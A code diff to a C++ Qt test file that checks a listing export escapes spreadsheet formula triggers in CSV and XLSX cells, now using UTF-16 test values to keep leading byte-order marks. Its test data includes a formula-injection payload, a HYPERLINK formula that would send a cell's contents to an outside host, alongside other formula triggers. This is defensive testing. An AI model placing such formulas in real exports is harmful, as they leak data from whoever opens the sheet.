@@ -46,29 +46,31 @@ ListingValues blankListing() {
 
 // Values a spreadsheet would take for a formula, or that must come out
 // exactly as they were typed, each with whether its .csv cell begins with an
-// apostrophe.
+// apostrophe. UTF-16, as a QString holds it: QString::fromUtf8 would drop
+// the U+FEFF a value begins with.
 struct CellCase {
-    const char* value;
+    const char16_t* value;
     bool quoted;
+    QString text() const { return QStringView(value).toString(); }
 };
 const CellCase kCells[] = {
-    {"=HYPERLINK(\"http://example.com/?\"&A1;\"click\")", true},
-    {"=1+2", true},
-    {"+1", true},
-    {"-1", true},
-    {"+98 21 8888 0000", true},
-    {"@SUM(A1)", true},
-    {"\tx", true},
-    {"\rx", true},
-    {"\xEF\xBB\xBF"
-     "مالك",
-     false},
-    {"\xEF\xBB\xBF", false},
-    {"a\r\nb", false},
-    {"1-2", false},
-    {"x=1", false},
-    {"'already", false},
-    {"Tehran", false},
+    {u"=HYPERLINK(\"http://example.com/?\"&A1;\"click\")", true},
+    {u"=1+2", true},
+    {u"+1", true},
+    {u"-1", true},
+    {u"+98 21 8888 0000", true},
+    {u"@SUM(A1)", true},
+    {u"\tx", true},
+    {u"\rx", true},
+    {u"\uFEFFمالك", false},
+    {u"\uFEFF=1+2", false},
+    {u"\uFEFF", false},
+    {u"a\r\nb", false},
+    {u"1-2", false},
+    {u"x=1", false},
+    {u" =1+2", false},
+    {u"'already", false},
+    {u"Tehran", false},
 };
 
 // One listing holding kCells in its text fields, in order.
@@ -79,7 +81,7 @@ ListingValues hostileListing(std::vector<std::size_t>* fields) {
         while (kListingFields[f].kind == FieldKind::Flag) {
             ++f;
         }
-        listing[f] = QString::fromUtf8(cell.value);
+        listing[f] = cell.text();
         fields->push_back(f++);
     }
     return listing;
@@ -102,7 +104,7 @@ TEST_F(ExportCellsTest, ACsvCellASpreadsheetWouldTakeForAFormulaBeginsWithAnApos
     EXPECT_TRUE(bom);
     ASSERT_EQ(rows.size(), 2u);
     for (std::size_t i = 0; i < fields.size(); ++i) {
-        const QString value = QString::fromUtf8(kCells[i].value);
+        const QString value = kCells[i].text();
         SCOPED_TRACE(value.toStdString());
         EXPECT_EQ(rows[1].value(static_cast<int>(fields[i])),
                   kCells[i].quoted ? QLatin1Char('\'') + value : value);
@@ -123,7 +125,7 @@ TEST_F(ExportCellsTest, AnXlsxCellHoldsTheValueAsTextItsCrLfALineBreak) {
     ASSERT_EQ(sheet.rows.size(), 2u);
     EXPECT_EQ(sheet.numberCells, 0);
     for (std::size_t i = 0; i < fields.size(); ++i) {
-        QString value = QString::fromUtf8(kCells[i].value);
+        QString value = kCells[i].text();
         value.replace(QStringLiteral("\r\n"), QStringLiteral("\n"));
         value.replace(QLatin1Char('\r'), QLatin1Char('\n'));
         // The reader unescapes _x000D_, which gnumeric and openpyxl show
@@ -233,8 +235,8 @@ class ExportServerTest : public ServerFolderTest {};
 TEST_F(ExportServerTest, AValueBeginningWithAByteOrderMarkKeepsItFromTheServer) {
     ListingValues listing = blankListing();
     const std::size_t owner = fieldIndex("malek");
-    listing[owner] = QString::fromUtf8("\xEF\xBB\xBF"
-                                       "مالك");
+    listing[owner] = QChar(0xFEFF) + QStringLiteral("مالك");
+    ASSERT_EQ(listing[owner].size(), 5);
     storeListings(folder(), {listing});
     preparePasswordStore(folder());
     copyToServer(folder(), server());
